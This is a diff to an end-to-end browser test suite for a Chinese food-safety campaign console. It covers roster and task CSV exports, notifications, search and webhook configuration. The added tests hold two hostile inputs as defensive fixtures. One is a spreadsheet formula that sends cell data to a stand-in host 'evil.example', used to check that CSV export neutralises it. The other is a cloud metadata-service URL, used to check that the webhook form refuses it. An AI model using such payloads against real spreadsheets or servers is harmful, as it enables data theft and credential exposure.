@@ -1,8 +1,9 @@
 // The console's shared tools in Debian's Chromium (issue #6): the CSV a roster page downloads holds exactly
 // the roster's entries (a 黑榜 of two filed cases), and the case page shows its timeline, its holders and the
 // Temporal link; a coordinator's 催办 reaches the station officer's notification bell, and reading it lowers
-// the badge; the coordinator exports selected tasks as CSV; the app-bar search finds an operator by the
-// start of its 统一社会信用代码; a coordinator sets up and removes a jurisdiction's webhook.
+// the badge; the coordinator exports selected tasks as CSV (a formula-like name neutralised); the app-bar
+// search finds an operator by the start of its 统一社会信用代码; a coordinator sets up and removes a
+// jurisdiction's webhook (an inward URL is refused with its reason on the field).
 import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
@@ -63,7 +64,15 @@ afterAll(async () => {
 describe('console tools', () => {
   it('downloads a 黑榜 as the CSV of its entries, and shows a filed case’s timeline', async () => {
     const [a, b] = await zhichengOperators();
-    const campaignId = await launch('rectification', [a!.id, b!.id]);
+    // 红黑榜 are published once the award is final or while 总结提升 is open (the programme's rule): 集中治理
+    // is open now for 6 s, 评价公示 a second after it, then 总结提升 for ten minutes. An inspection done
+    // after its stage closed still counts (late).
+    const t0 = Date.now();
+    const at = (ms: number) => new Date(t0 + ms).toISOString();
+    const calendar = [['mobilization', -5000, -4000], ['self_check', -3000, -2000], ['rectification', -500, 6000], ['evaluation', 7000, 8000], ['summary', 9000, 600_000]] as const;
+    const launched = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendar.map(([key, s, d]) => ({ key, startsAt: at(s), dueAt: at(d) })), reminderLeadHours: 0, operatorIds: [a!.id, b!.id] });
+    expect(launched.status, JSON.stringify(launched.body)).toBe(201);
+    const campaignId = launched.body.id as string;
     const cases = [`${campaignId}:${a!.id}`, `${campaignId}:${b!.id}`];
 
     // Two serious findings (四、（三）: 过期食品) file both cases: they make the black list.
@@ -76,6 +85,7 @@ describe('console tools', () => {
       expect(r.status, JSON.stringify(r.body)).toBe(200);
     }
     await waitFor(async () => (await h.db.case.count({ where: { id: { in: cases }, excludedKind: 'filed' } })) === 2, 'both cases filed');
+    await waitFor(() => h.db.stage.findFirst({ where: { campaignId, key: 'summary', status: 'open' } }), 'the 总结提升 stage open');
     const published = await post('coord.changxing', `/campaigns/${enc(campaignId)}/rosters`, { kind: 'black' });
     expect(published.status, JSON.stringify(published.body)).toBe(201);
     const roster = (await get('leader.changxing', `/rosters/${enc(published.body.id)}`)).body;
@@ -155,6 +165,10 @@ describe('console tools', () => {
     await page.close();
 
     // The coordinator exports the campaign's tasks (select all, 导出所选): CSV with a BOM, Chinese headers.
+    // An operator name a spreadsheet would run as a formula (OWASP CSV injection) is written as text, with a
+    // leading '. (Set on the task's copy of the name: the seeded operator is shared with other suites.)
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
+    await h.db.task.update({ where: { id: task.id }, data: { details: { ...(task.details as object), operatorName: formula, operatorUscc: '+8613800000000' } } });
     const coord = await signIn('coord.changxing');
     await coord.goto(`${api.url}/#/tasks?${q({ campaignId, status: 'open' })}`);
     await coord.waitForSelector('tbody tr.RaDatagrid-row');
@@ -163,6 +177,8 @@ describe('console tools', () => {
     expect(csv.name).toMatch(/^任务-\d{4}-\d{2}-\d{2}\.csv$/);
     expect(csv.rows[0]!.slice(0, 4)).toEqual(['编号', '任务名称', '任务类型', '阶段']);
     expect(csv.rows.slice(1).map((r) => [r[0], r[1], r[2]])).toEqual([[task.id, task.title, '自查自纠']]);
+    expect(csv.rows[1]!.slice(4, 6)).toEqual([`'${formula}`, "'+8613800000000"]);
+    await h.db.task.update({ where: { id: task.id }, data: { details: task.details as object } });
 
     // 指派 the selection to the station officer: the dialog lists who may take it; the list shows the name.
     await coord.click('[data-testid="tasks-assign"]');
@@ -207,6 +223,12 @@ describe('console tools', () => {
     await page.click('[data-testid="webhook-save"]');
     expect(await page.textContent('[data-testid="webhook-form"]')).toContain('密钥至少 16 个字符');
     await page.fill('[data-testid="webhook-form"] input[name="secret"]', 'a-secret-of-24-characters');
+    // An address inside the network (here the cloud metadata service) is refused by the API: the reason shows on the field.
+    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'http://169.254.169.254/latest/meta-data/');
+    await page.click('[data-testid="webhook-save"]');
+    await page.waitForSelector('[data-testid="webhook-form"] :text("云主机元数据服务")');
+    expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
+    await page.fill('[data-testid="webhook-form"] input[name="url"]', 'https://hooks.example.invalid/campaign');
     await page.click('[data-testid="webhook-save"]');
     await page.waitForSelector('[data-testid="webhook-state"]:has-text("已启用")');
     const saved = await get('coord.changxing', `/jurisdictions/${jid}/webhook`);
